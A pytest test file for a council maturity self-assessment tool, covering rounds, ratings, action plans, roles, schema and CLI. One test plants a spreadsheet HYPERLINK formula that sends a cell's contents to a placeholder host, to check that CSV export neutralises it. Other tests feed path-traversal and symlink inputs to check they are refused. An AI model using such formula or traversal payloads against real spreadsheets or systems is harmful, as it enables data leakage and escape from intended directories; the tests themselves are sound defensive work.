"""The maturity self-assessment core: rounds, the spread, gaps and actions, bad input, roles,
the committed schema, respondent keys and `workbook maturity`.

The store under real processes (concurrent respondents, a crash mid-save) is in
``test_maturity_store.py``.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import jsonschema
import pytest

from workbook import maturity as mat
from workbook.assessment import (
    ASSESSMENT_FILE,
    RESPONDENT_KEY_PATTERN,
    assessment_json_schema_text,
    respondent_key,
)
from workbook.errors import (
    InvalidProjectFile,
    SchemaVersionError,
    UnsafeProjectId,
    WorkbookError,
)
from workbook.export.dates import day
from workbook.maturity import RoundClosed
from workbook.roles import Actor, Role, RoleRequired
from workbook.store import AssessmentStore, Change, get_path

REPO = Path(__file__).resolve().parent.parent
SCHEMA_FILE = REPO / "workbook" / "schema" / "maturity.schema.json"
AID = "northshire-council"
NAME = "Northshire Council"
COMPONENTS = ("strategy", "governance", "targets", "people", "compliance", "engagement",
              "procurement")  # fmt: skip


@pytest.fixture
def astore(tmp_path: Path) -> AssessmentStore:
    """An empty workspace for assessments."""
    return AssessmentStore(tmp_path / "workspace")


@pytest.fixture
def started(astore: AssessmentStore) -> AssessmentStore:
    """Northshire Council's assessment, round 1 open, nothing rated (revision 1)."""
    a = mat.start_assessment(astore, NAME, user="rhea")
    assert (a.authority.id, a.revision, a.round_numbers) == (AID, 1, [1])
    return astore


def _path(store: AssessmentStore) -> Path:
    return store.root / "_maturity" / AID / ASSESSMENT_FILE


def _agree_all(store: AssessmentStore, *, skip: tuple[str, ...] = (), **kw) -> None:
    for cid in COMPONENTS:
        if cid not in skip:
            mat.agree(store, AID, cid, level=1, target_level=1, rationale="seen it", user="rhea",
                      **kw)  # fmt: skip


def _closed_round_one(store: AssessmentStore):
    _agree_all(store)
    return mat.close_round(store, AID, user="rhea", note="board, March")


class _Untouched:
    """The assessment file's bytes and history length before; check them after."""

    def __init__(self, store: AssessmentStore) -> None:
        self.store = store
        self.path = _path(store)
        self.raw = self.path.read_bytes()
        self.lines = len(store.history(AID))

    def check(self, error: BaseException, *words: str) -> str:
        message = str(error)
        assert str(self.path) in message, message
        for word in words:
            assert word in message, message
        assert "\n" not in message
        assert "Traceback" not in message
        assert self.path.read_bytes() == self.raw, "the file changed"
        assert len(self.store.history(AID)) == self.lines, "the history changed"
        return message


# --------------------------------------------------------------------------- rounds


def test_a_round_cannot_close_until_every_component_is_agreed(started):
    _agree_all(started, skip=("people", "procurement"))
    before = _Untouched(started)
    with pytest.raises(WorkbookError) as caught:
        mat.close_round(started, AID, user="rhea")
    before.check(caught.value, "round 1 cannot close yet", "People and culture",
                 "Procurement and supply chain", "rounds.1.components")  # fmt: skip
    assert "Strategy" not in caught.value.message

    _agree_all(started, skip=COMPONENTS[:3])  # the same again, and the two missing
    closed = mat.close_round(started, AID, user="rhea", note="to the board")
    assert closed.rounds["1"].closed.by == "rhea"
    assert closed.rounds["1"].closed.note == "to the board"
    assert started.open(AID).latest_closed == 1


def _on_closed_round(store, what):
    if what == "rate":
        return mat.rate(store, AID, "strategy", level=2, rationale="late", user="ann",
                        round_number=1)  # fmt: skip
    if what == "agree":
        return mat.agree(store, AID, "governance", level=3, target_level=4, rationale="late",
                         user="rhea")  # fmt: skip
    return mat.set_action(store, AID, "strategy", owner="Sam", user="rhea")


@pytest.mark.parametrize("what", ["rate", "agree", "set_action"])
def test_a_closed_round_is_frozen(started, what):
    mat.agree(started, AID, "strategy", level=1, target_level=3, rationale="r", user="rhea")
    closed = _closed_round_one(started).rounds["1"].closed
    before = _Untouched(started)
    with pytest.raises(RoundClosed) as caught:
        _on_closed_round(started, what)
    before.check(caught.value, "round 1 was closed on", day(closed.at), "by rhea",
                 "Start round 2")  # fmt: skip
    assert caught.value.field.startswith("rounds.1.")


def _edited(value, fn):
    new = copy.deepcopy(value)
    fn(new)
    return new


def _set_rationale(rnd):
    rnd["components"]["strategy"]["agreed"]["rationale"] = "rewritten after the board"


def _reopen(rnd):
    rnd["closed"] = None


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("leaf", "was closed on"),
        ("reopen", "cannot be reopened"),
        ("whole round", "was closed on"),
        ("whole round reopened", "cannot be reopened"),
        ("all rounds", "was closed on"),
    ],
)
def test_a_crafted_save_cannot_change_or_reopen_a_closed_round(started, case, words):
    a = _closed_round_one(started)
    rnd = a.rounds["1"].model_dump(mode="json")
    rounds = {"1": rnd}
    changes = {
        "leaf": [Change("rounds.1.components.strategy.agreed.rationale", "seen it", "edited")],
        "reopen": [Change("rounds.1.closed", rnd["closed"], None)],
        "whole round": [Change("rounds.1", rnd, _edited(rnd, _set_rationale))],
        "whole round reopened": [Change("rounds.1", rnd, _edited(rnd, _reopen))],
        "all rounds": [Change("rounds", rounds, {"1": _edited(rnd, _set_rationale)})],
    }[case]
    before = _Untouched(started)
    with pytest.raises(RoundClosed) as caught:
        started.apply(AID, changes, user="mallory", base_revision=a.revision, rules=mat.RULES)
    message = before.check(caught.value, "round 1", words)
    if words == "was closed on":
        assert day(rnd["closed"]["at"]) in message
    assert caught.value.field.startswith("rounds.1.")
    assert started.open(AID).rounds["1"].closed is not None


def test_a_crafted_save_cannot_close_a_round_early_or_add_a_closed_one(started):
    a = started.open(AID)
    closing = {"at": datetime.now(timezone.utc).isoformat(), "by": "mallory", "note": ""}
    before = _Untouched(started)
    with pytest.raises(WorkbookError) as caught:
        started.apply(AID, [Change("rounds.1.closed", None, closing)], user="mallory",
                      base_revision=a.revision, rules=mat.RULES)  # fmt: skip
    before.check(caught.value, "round 1 cannot close yet", ", ".join(COMPONENTS))

    a = _closed_round_one(started)
    second = _edited(a.rounds["1"].model_dump(mode="json"), lambda r: r.update(opened_by="m"))
    before = _Untouched(started)
    with pytest.raises(RoundClosed) as caught:
        started.apply(AID, [Change("rounds.2", None, second)], user="mallory",
                      base_revision=a.revision, rules=mat.RULES)  # fmt: skip
    before.check(caught.value, "round 2 cannot be added already closed")


def test_start_round_carries_agreed_records_and_open_actions_not_ratings(started):
    mat.rate(started, AID, "strategy", level=2, rationale="my view", user="ann")
    _agree_all(started)
    mat.agree(started, AID, "strategy", level=1, target_level=3, rationale="r", user="rhea",
              target_date=date(2027, 3, 31))  # fmt: skip
    mat.agree(started, AID, "people", level=2, target_level=3, rationale="r", user="rhea")
    mat.set_action(started, AID, "people", status="done", user="rhea")
    mat.set_action(started, AID, "strategy", owner="Sam", user="rhea")
    with pytest.raises(WorkbookError, match="round 1 is still open: close it before starting"):
        mat.start_round(started, AID, user="rhea")
    one = mat.close_round(started, AID, user="rhea").rounds["1"]

    two = mat.start_round(started, AID, user="rhea")
    assert two.round_numbers == [1, 2]
    assert two.rounds["1"] == one, "starting round 2 changed round 1"
    r2 = two.rounds["2"]
    assert r2.closed is None
    assert r2.opened_by == "rhea"
    for cid in COMPONENTS:
        assert r2.components[cid].ratings == {}, cid
        carried = r2.components[cid].agreed
        assert carried.carried_from == 1, cid
        assert carried.model_copy(update={"carried_from": None}) == one.components[cid].agreed
    assert list(r2.actions) == ["strategy"]  # people's action was done: not carried
    assert r2.actions["strategy"] == one.actions["strategy"]
    assert r2.actions["strategy"].owner == "Sam"

    # Agreed afresh in round 2: no longer carried. Round 3 carries from where each came.
    mat.agree(started, AID, "strategy", level=2, target_level=3, rationale="r2", user="rhea")
    assert started.open(AID).rounds["2"].components["strategy"].agreed.carried_from is None
    mat.close_round(started, AID, user="rhea")
    three = mat.start_round(started, AID, user="rhea").rounds["3"]
    assert three.components["strategy"].agreed.carried_from == 2
    assert three.components["people"].agreed.carried_from == 1
    assert three.actions["strategy"].from_level == 2


# --------------------------------------------------------------------------- spread


def test_ratings_three_levels_apart_are_flagged_two_are_not(started):
    for who, strategy, governance in (("ann", 1, 1), ("bob", 2, 2), ("cat", 4, 2)):
        mat.rate(started, AID, "strategy", level=strategy, rationale="why", user=who)
        mat.rate(started, AID, "governance", level=governance, rationale="why", user=who)
    a = started.open(AID)
    model = a.maturity_model()
    by_id = {s.id: s for s in mat.states(a, model)}
    assert by_id["strategy"].spread.ratings == (("ann", 1), ("bob", 2), ("cat", 4))
    assert by_id["strategy"].spread.differ_by == 3
    assert by_id["strategy"].spread.flagged
    assert by_id["governance"].spread.differ_by == 1
    assert not by_id["governance"].spread.flagged
    assert by_id["targets"].spread.ratings == ()
    assert not by_id["targets"].spread.flagged
    data = {c["id"]: c for c in mat.round_data(a, model)["components"]}
    assert (data["strategy"]["differ_by"], data["strategy"]["flagged"]) == (3, True)
    assert (data["governance"]["differ_by"], data["governance"]["flagged"]) == (1, False)
    assert mat.respondents(a.round()) == ["ann", "bob", "cat"]


# --------------------------------------------------------------------------- gaps and actions


def test_a_gap_gets_its_action_in_the_same_save(started):
    due = date(2027, 6, 30)
    a = mat.agree(started, AID, "strategy", level=1, target_level=3, target_date=due,
                  rationale="a draft strategy", user="rhea")  # fmt: skip
    assert a.revision == 2
    action = a.rounds["1"].actions["strategy"]
    assert (action.from_level, action.to_level, action.due) == (1, 3, due)
    assert (action.owner, action.status) == ("", "open")
    assert action.text == "Strategy: move from 1 Initiating to 3 Testing"
    lines = [e for e in started.history(AID) if e["revision"] == 2]
    assert sorted(e["path"] for e in lines) == [
        "rounds.1.actions.strategy",
        "rounds.1.components.strategy.agreed",
    ]
    assert {e["outcome"] for e in lines} == {"saved"}
    # No gap, no action.
    b = mat.agree(started, AID, "targets", level=2, target_level=2, rationale="r", user="rhea")
    assert "targets" not in b.rounds["1"].actions


def test_changing_the_level_or_target_updates_the_action(started):
    mat.agree(started, AID, "strategy", level=1, target_level=3, rationale="r", user="rhea")
    a = mat.agree(started, AID, "strategy", level=2, target_level=4, rationale="r", user="rhea")
    action = a.rounds["1"].actions["strategy"]
    assert (action.from_level, action.to_level) == (2, 4)
    # The text we wrote named the old levels; it must not go on claiming them.
    assert action.text == "Strategy: move from 2 Defining to 4 Proving"
    assert len([e for e in started.history(AID) if e["revision"] == a.revision]) == 4

    mat.set_action(started, AID, "strategy", text="Publish the strategy", user="rhea")
    a = mat.agree(started, AID, "strategy", level=2, target_level=5, rationale="r", user="rhea")
    action = a.rounds["1"].actions["strategy"]
    assert (action.from_level, action.to_level) == (2, 5)
    assert action.text == "Publish the strategy", "someone's own text is kept"


def test_set_action_sets_owner_and_due_and_the_plan_marks_overdue(started):
    today = date(2027, 1, 15)
    for cid, target in (("strategy", 3), ("people", 2), ("compliance", 4)):
        mat.agree(started, AID, cid, level=1, target_level=target, rationale="r", user="rhea")
    mat.set_action(started, AID, "strategy", owner="Sam Lee", due=today - timedelta(days=1),
                   user="rhea")  # fmt: skip
    mat.set_action(started, AID, "people", due=today + timedelta(days=30), user="rhea")
    a = mat.set_action(started, AID, "compliance", due=date(2026, 1, 1), status="done",
                       user="rhea")  # fmt: skip
    assert (a.rounds["1"].actions["strategy"].owner, a.rounds["1"].actions["strategy"].due) == (
        "Sam Lee", today - timedelta(days=1))  # fmt: skip

    plan = mat.action_plan(a, a.maturity_model(), today=today)
    assert [(r.component, r.status, r.overdue) for r in plan] == [
        ("strategy", "open", True),
        ("people", "open", False),
        ("compliance", "done", False),  # past due, but done
    ]
    assert all(r.gap_open for r in plan)
    sm = mat.summary(a, a.maturity_model(), today=today)
    assert sm.round is None
    assert sm.open_round == 1

    nothing = _Untouched(started)
    with pytest.raises(WorkbookError) as caught:
        mat.set_action(started, AID, "targets", owner="Sam", user="rhea")
    nothing.check(caught.value, "rounds.1.actions.targets", "agree a target above its level")
    with pytest.raises(WorkbookError) as caught:
        mat.set_action(started, AID, "strategy", status="maybe", user="rhea")
    nothing.check(caught.value, "rounds.1.actions.strategy.status")


def test_the_plan_csv_makes_formula_like_text_inert(started):
    mat.agree(started, AID, "strategy", level=1, target_level=3, rationale="r", user="rhea")
    evil = '=HYPERLINK("https://example.invalid/?"&A1,"click")'
    a = mat.set_action(started, AID, "strategy", text=evil, owner="@SUM(A1:A9)",
                       due=date(2027, 2, 1), user="rhea")  # fmt: skip
    model = a.maturity_model()
    text = mat.plan_csv(mat.action_plan(a, model, today=date(2027, 1, 1)), model)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == mat.PLAN_CSV_COLUMNS
    assert rows[1] == ["Strategy", "1 Initiating", "3 Testing", "'" + evil, "'@SUM(A1:A9)",
                       "2027-02-01", "open", "yes", "no"]  # fmt: skip
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("call", "field", "words"),
    [
        (lambda s: mat.rate(s, AID, "strategy", level=6, rationale="r", user="ann"),
         "level", "level 6 is not a level of this model (0 Unaware .. 5 Optimising)"),
        (lambda s: mat.agree(s, AID, "strategy", level=2, target_level=6, rationale="r",
                             user="rhea"),
         "target_level", "level 6 is not a level"),
        (lambda s: mat.rate(s, AID, "ethics", level=1, rationale="r", user="ann"),
         "component", "unknown component 'ethics'"),
        (lambda s: mat.agree(s, AID, "strategy", level=3, target_level=2, rationale="r",
                             user="rhea"),
         "rounds.1.components.strategy.agreed.target_note",
         "the target (2 Defining) is below the current level (3 Testing): add a note"),
        (lambda s: mat.rate(s, AID, "strategy", level=2, rationale="  ", user="ann"),
         f"rounds.1.components.strategy.ratings.{respondent_key('ann')}.rationale",
         "give a rationale for 2 Defining"),
        (lambda s: mat.agree(s, AID, "strategy", level=1, target_level=1, user="rhea"),
         "rounds.1.components.strategy.agreed.rationale", "any level above 0 needs one"),
        (lambda s: mat.rate(s, AID, "strategy", level=True, rationale="r", user="ann"),
         "level", "whole number"),
        (lambda s: mat.rate(s, AID, "strategy", level=1, rationale="r", user="ann",
                            round_number=4),
         "round", "there is no round 4"),
    ],
    ids=["level 6", "target 6", "unknown component", "target below without a note",
         "rating without a rationale", "agreed without a rationale", "level True",
         "no such round"],
)  # fmt: skip
def test_bad_input_is_refused_naming_file_and_field_and_nothing_is_lost(
    started, call, field, words
):
    mat.rate(started, AID, "strategy", level=1, rationale="first", user="ann")
    before = _Untouched(started)
    with pytest.raises(WorkbookError) as caught:
        call(started)
    assert caught.value.field == field
    before.check(caught.value, f": {field}: ", words)


def test_a_target_below_the_level_is_accepted_with_a_note_and_a_level_0_without_rationale(
    started,
):
    a = mat.agree(started, AID, "strategy", level=3, target_level=2, rationale="over-built",
                  target_note="scaling back to fit our size", user="rhea")  # fmt: skip
    agreed = a.rounds["1"].components["strategy"].agreed
    assert (agreed.level, agreed.target_level) == (3, 2)
    assert "strategy" not in a.rounds["1"].actions  # no gap upwards, no action
    b = mat.rate(started, AID, "people", level=0, user="ann")
    assert b.rounds["1"].components["people"].ratings[respondent_key("ann")].level == 0


@pytest.mark.parametrize("bad", ["../x", "a/b", "..", "/etc", "North Shire", ""])
def test_an_authority_id_that_would_leave_the_workspace_is_refused(started, bad):
    before = _Untouched(started)
    for call in (
        lambda: started.open(bad),
        lambda: mat.rate(started, bad, "strategy", level=1, rationale="r", user="ann"),
        lambda: mat.close_round(started, bad, user="rhea"),
        lambda: mat.start_assessment(started, "X", authority_id=bad, user="rhea"),
    ):
        with pytest.raises(UnsafeProjectId) as caught:
            call()
        assert "is not a valid maturity assessment id" in str(caught.value)
        assert caught.value.field == "authority"
    assert _path(started).read_bytes() == before.raw
    assert sorted(p.name for p in started.base.iterdir()) == [AID]


def _outside_assessment(tmp_path: Path) -> tuple[Path, bytes]:
    """A valid assessment in a folder outside the workspace, as a target for links."""
    elsewhere = AssessmentStore(tmp_path / "elsewhere")
    mat.start_assessment(elsewhere, "Evil", user="mallory")
    folder = elsewhere.base / "evil"
    return folder, (folder / ASSESSMENT_FILE).read_bytes()


def test_a_linked_authority_folder_or_maturity_folder_is_refused(tmp_path, started):
    folder, raw = _outside_assessment(tmp_path)
    (started.base / "evil").symlink_to(folder, target_is_directory=True)
    linked_base = AssessmentStore(tmp_path / "other")
    linked_base.root.mkdir()
    (linked_base.root / "_maturity").symlink_to(folder.parent, target_is_directory=True)
    for store in (started, linked_base):
        for call in (
            lambda s: s.open("evil"),
            lambda s: mat.rate(s, "evil", "strategy", level=1, rationale="r", user="ann"),
            lambda s: mat.start_assessment(s, "Evil", user="mallory"),
        ):
            with pytest.raises(UnsafeProjectId) as caught:
                call(store)
            assert "points outside the workspace" in str(caught.value)
            assert str(store.root) in str(caught.value)
    with pytest.raises(UnsafeProjectId, match="points outside the workspace"):
        mat.start_assessment(linked_base, "Other", authority_id="other", user="m")
    assert (folder / ASSESSMENT_FILE).read_bytes() == raw
    assert sorted(p.name for p in folder.parent.iterdir()) == ["evil"]
    assert sorted(p.name for p in folder.iterdir()) == [".lock", ASSESSMENT_FILE, "history.jsonl"]
    assert [e.id for e in linked_base.list()] == []

    proc = _run("maturity", "evil", workspace=started.root, ok=False)
    _one_line_error(proc, "points outside the workspace")


def _duplicate_key(text: str) -> str:
    return text.replace('"model":', '"revision": 99,\n  "model":', 1)


HAND_EDITS = {
    "unknown component": (
        lambda d: d["rounds"]["1"]["components"].update(ethics={"ratings": {}, "agreed": None}),
        InvalidProjectFile, "rounds.1.components.ethics", "unknown component 'ethics'"),
    "level 7": (
        lambda d: d["rounds"]["1"]["components"]["strategy"]["agreed"].update(level=7),
        InvalidProjectFile, "rounds.1.components.strategy.agreed.level",
        "level 7 is not a level of this model"),
    "rating level 7": (
        lambda d: next(iter(d["rounds"]["1"]["components"]["strategy"]["ratings"].values()))
        .update(level=7),
        InvalidProjectFile, f"rounds.1.components.strategy.ratings.{respondent_key('ann')}.level",
        "level 7 is not a level"),
    "duplicate key": (
        _duplicate_key, InvalidProjectFile, "(top level)", "key 'revision' appears more than once"),
    "schema version": (
        lambda d: d.update(schema_version=2), SchemaVersionError, "schema_version",
        "schema_version 2 is not one this version"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(HAND_EDITS))
def test_a_hand_edited_file_is_refused_naming_file_and_field(started, case):
    mat.rate(started, AID, "strategy", level=1, rationale="r", user="ann")
    mat.agree(started, AID, "strategy", level=1, target_level=2, rationale="r", user="rhea")
    edit, kind, field, words = HAND_EDITS[case]
    path = _path(started)
    text = path.read_text(encoding="utf-8")
    if edit is _duplicate_key:
        text = edit(text)
    else:
        data = json.loads(text)
        edit(data)
        text = json.dumps(data, indent=2)
    path.write_text(text, encoding="utf-8")
    raw = path.read_bytes()

    with pytest.raises(kind) as caught:
        started.open(AID)
    assert caught.value.field == field
    assert str(caught.value) == f"{path}: {field}: {caught.value.message}"
    assert words in caught.value.message
    with pytest.raises(kind):  # nothing is saved over it
        mat.rate(started, AID, "people", level=1, rationale="r", user="ann")
    assert path.read_bytes() == raw
    (entry,) = started.list()
    assert entry.assessment is None
    assert isinstance(entry.error, kind)

    proc = _run("maturity", AID, workspace=started.root, ok=False)
    _one_line_error(proc, str(path), field, words)


# --------------------------------------------------------------------------- roles


def test_roles_author_rates_reviewer_agrees_viewer_does_neither(started):
    author = Actor(name="alice", roles=frozenset({Role.author}), enforced=True)
    viewer = Actor(name="victor", roles=frozenset({Role.viewer}), enforced=True)
    reviewer = Actor(name="rhea", roles=frozenset({Role.reviewer}), enforced=True)

    mat.rate(started, AID, "strategy", level=2, rationale="a draft", user=author)
    before = _Untouched(started)
    for who, calls in (
        (author, [
            lambda u: mat.agree(started, AID, "strategy", level=2, target_level=3,
                                rationale="r", user=u),
            lambda u: mat.close_round(started, AID, user=u),
            lambda u: mat.start_round(started, AID, user=u),
            lambda u: mat.start_assessment(started, "Southshire", user=u),
        ]),
        (viewer, [
            lambda u: mat.rate(started, AID, "strategy", level=1, rationale="r", user=u),
            lambda u: mat.agree(started, AID, "strategy", level=2, target_level=3,
                                rationale="r", user=u),
        ]),
    ):  # fmt: skip
        for call in calls:
            with pytest.raises(RoleRequired) as caught:
                call(who)
            assert caught.value.field == "role"
            assert f"{who.name} may not" in str(caught.value)
    assert before.path.read_bytes() == before.raw
    assert sorted(p.name for p in started.base.iterdir()) == [AID]

    mat.rate(started, AID, "strategy", level=3, rationale="r", user=reviewer)
    a = mat.agree(started, AID, "strategy", level=2, target_level=3, rationale="r", user=reviewer)
    saved = [(e["user"], e.get("role"), e["path"].rsplit(".", 1)[-1])
             for e in started.history(AID) if e["outcome"] == "saved"]  # fmt: skip
    assert saved == [
        ("alice", "author", respondent_key("alice")),
        ("rhea", "reviewer", respondent_key("rhea")),
        ("rhea", "reviewer", "agreed"),
        ("rhea", "reviewer", "strategy"),
    ]
    assert a.rounds["1"].components["strategy"].agreed.assessed_by == "rhea"
    # Roles off (a name, as on the command line): nothing recorded as a role.
    mat.rate(started, AID, "people", level=1, rationale="r", user="sam")
    assert "role" not in started.history(AID)[-1]


# --------------------------------------------------------------------------- schema


def _full_assessment(store: AssessmentStore):
    web = {"url": "https://example.org/strategy.pdf", "label": "Draft"}
    project = {"project": "early-help", "target": "q7", "label": "bias tests"}
    mat.rate(store, AID, "strategy", level=2, rationale="a draft", user="j.smith", evidence=[web])
    mat.rate(store, AID, "strategy", level=4, rationale="used", user="Jane Smith",
             evidence=[project])  # fmt: skip
    _agree_all(store)
    mat.agree(store, AID, "strategy", level=2, target_level=4, target_date=date(2027, 3, 31),
              rationale="agreed at the board", user="rhea")  # fmt: skip
    mat.set_action(store, AID, "strategy", owner="Sam Lee", user="rhea")
    mat.close_round(store, AID, user="rhea", note="board")
    return mat.start_round(store, AID, user="rhea")


def test_a_saved_assessment_validates_against_the_committed_schema(started):
    assert SCHEMA_FILE.read_text(encoding="utf-8") == assessment_json_schema_text(), (
        "workbook/schema/maturity.schema.json is stale: run `workbook schema --write`"
    )
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    _full_assessment(started)
    data = json.loads(_path(started).read_text(encoding="utf-8"))
    assert list(data["rounds"]) == ["1", "2"]
    validator.validate(data)

    # The schema can fail: an unknown field, a key that is not a respondent key, a level as text.
    def unknown_field(d):
        d["surprise"] = 1

    def dotted_key(d):
        ratings = d["rounds"]["1"]["components"]["strategy"]["ratings"]
        ratings["J.Smith"] = next(iter(ratings.values()))

    def text_level(d):
        d["rounds"]["2"]["components"]["people"]["agreed"]["level"] = "2"

    for spoil in (unknown_field, dotted_key, text_level):
        with pytest.raises(jsonschema.ValidationError):
            validator.validate(_edited(data, spoil))


def test_schema_check_passes(tmp_path):
    assert "up to date" in _run("schema", "--check", workspace=tmp_path).stdout


# --------------------------------------------------------------------------- respondent keys


def test_respondent_names_with_dots_and_spaces_get_distinct_safe_keys(started):
    names = ["j.smith", "j_smith", "J.Smith", "Jane Smith", "jane smith", "jane.smith",
             "...", "Ōsaka Ñame", "😀", "a" * 200]  # fmt: skip
    keys = [respondent_key(n) for n in names]
    assert len(set(keys)) == len(names), keys
    for key in keys:
        assert "." not in key
        assert re.fullmatch(RESPONDENT_KEY_PATTERN, key), key
    assert respondent_key("j.smith") == respondent_key("j.smith")  # stable

    for who, level in (("j.smith", 1), ("Jane Smith", 3), ("j_smith", 2)):
        mat.rate(started, AID, "strategy", level=level, rationale="r", user=who)
    a = started.open(AID)
    ratings = a.rounds["1"].components["strategy"].ratings
    assert {r.respondent: r.level for r in ratings.values()} == {
        "j.smith": 1, "Jane Smith": 3, "j_smith": 2}  # fmt: skip
    data = a.to_data()
    for line in started.history(AID)[1:]:
        assert get_path(data, line["path"])["respondent"] == line["new"]["respondent"]


# --------------------------------------------------------------------------- CLI


def _run(*args: str, workspace: Path, ok: bool = True) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "WORKBOOK_WORKSPACE": str(workspace), "NO_COLOR": "1"}
    env.pop("JUPYTERHUB_USER", None)
    proc = subprocess.run([sys.executable, "-m", "workbook", *args], capture_output=True,
                          text=True, env=env, timeout=60)  # fmt: skip
    if ok:
        assert proc.returncode == 0, proc.stderr
    return proc


def _one_line_error(proc: subprocess.CompletedProcess[str], *words: str) -> str:
    assert proc.returncode == 1, proc
    assert "Traceback" not in proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith("Error: "), line
    for word in words:
        assert word in line, line
    return line


def test_workbook_maturity_lists_shows_and_exports(started):
    for who, strategy, governance in (("ann", 1, 1), ("bob", 2, 2), ("cat", 4, 2)):
        mat.rate(started, AID, "strategy", level=strategy, rationale="why", user=who)
        mat.rate(started, AID, "governance", level=governance, rationale="why", user=who)
    _agree_all(started)
    mat.agree(started, AID, "strategy", level=2, target_level=4, rationale="r", user="rhea",
              target_date=date(2027, 3, 31))  # fmt: skip
    mat.set_action(started, AID, "strategy", owner="=HYPERLINK(1)", user="rhea")
    mat.close_round(started, AID, user="rhea")
    mat.start_round(started, AID, user="rhea")
    ws = started.root

    listing = _run("maturity", workspace=ws).stdout
    assert re.search(rf"^{AID}\s+{NAME}\s+1 closed \d+ \w+ \d{{4}}\s+2\s+1\s+1\s*$", listing, re.M)

    for who in (NAME, AID, "northshire   COUNCIL"):
        out = _run("maturity", who, "--round", "1", workspace=ws).stdout
        assert out.startswith(f"{NAME}: round 1 of 2 (closed ")
        rows = {line.split("  ")[0]: line for line in out.splitlines()}
        assert re.search(r"\s1 2 4 DISCUSS\s+-$", rows["Strategy"].rstrip())
        assert re.search(r"2 Defining\s+4 Proving\s+31 Mar 2027\s+2\s", rows["Strategy"])
        governance = next(v for k, v in rows.items() if k.startswith("Governance"))
        assert "1 2 2" in governance
        assert "DISCUSS" not in governance
        assert out.count("DISCUSS") == 1
        assert "Respondents: ann, bob, cat" in out
    latest = _run("maturity", AID, workspace=ws).stdout
    assert latest.startswith(f"{NAME}: round 2 of 2 (open)")
    assert "DISCUSS" not in latest
    assert "Respondents: none yet" in latest

    data = json.loads(_run("maturity", AID, "--round", "1", "--json", workspace=ws).stdout)
    assert [c["id"] for c in data["components"]] == list(COMPONENTS)
    strategy = data["components"][0]
    assert (strategy["level"], strategy["target"], strategy["gap"]) == (2, 4, 2)
    assert (strategy["differ_by"], strategy["flagged"]) == (3, True)
    assert data["round"] == 1
    assert data["rounds"] == [1, 2]
    assert [a["component"] for a in data["actions"]] == ["strategy"]

    plan = _run("maturity", AID, "--csv", "-", workspace=ws).stdout
    rows = list(csv.reader(io.StringIO(plan)))
    assert tuple(rows[0]) == mat.PLAN_CSV_COLUMNS
    text = "Strategy: move from 2 Defining to 4 Proving"
    assert rows[1][:5] == ["Strategy", "2 Defining", "4 Proving", text, "'=HYPERLINK(1)"]
    assert len(rows) == 2

    _one_line_error(_run("maturity", AID, "--round", "9", workspace=ws, ok=False),
                    "there is no round 9; rounds are 1, 2")  # fmt: skip
    _one_line_error(_run("maturity", "Nowhere Council", workspace=ws, ok=False),
                    "Nowhere Council")  # fmt: skip
    _one_line_error(_run("maturity", "../x", workspace=ws, ok=False),
                    "'../x' is not a valid maturity assessment id")  # fmt: skip


# --- an authority's own model, in the workspace ---------------------------------------------


def test_an_authoritys_own_model_in_the_workspace_needs_no_code_change(tmp_path):
    """A model file in <workspace>/maturity-models is found by its id: the assessment is
    started on it, rated within its own levels (0-3), saved, reopened and shown."""
    from click.testing import CliRunner

    from tests.test_maturity_content import _small_text
    from workbook.cli import cli

    root = tmp_path / "ws"
    (root / "maturity-models").mkdir(parents=True)
    (root / "maturity-models" / "ours.yaml").write_text(_small_text("our-model"), "utf-8")
    store = AssessmentStore(root)
    a = mat.start_assessment(store, "Westvale Council", user="chair", model_id="our-model")
    assert a.model == "our-model"
    assert a.maturity_model().component_ids == ("alpha", "beta", "gamma")
    a = mat.rate(store, a.authority.id, "beta", level=3, rationale="We lead here.", user="kim")
    with pytest.raises(WorkbookError, match="level 4 is not a level of this model"):
        mat.rate(store, a.authority.id, "beta", level=4, rationale="x", user="kim")
    again = AssessmentStore(root).open(a.authority.id)
    assert again.maturity_model().level_label(3) == "3 Leading"
    result = CliRunner().invoke(cli, ["--workspace", str(root), "maturity", "Westvale Council"])
    assert result.exit_code == 0, result.output
    assert "Area beta" in result.output
    # Without the folder the file names the model it needs.
    (root / "maturity-models" / "ours.yaml").unlink()
    with pytest.raises(InvalidProjectFile, match="our-model") as info:
        AssessmentStore(root).open(a.authority.id)
    assert info.value.field == "model"
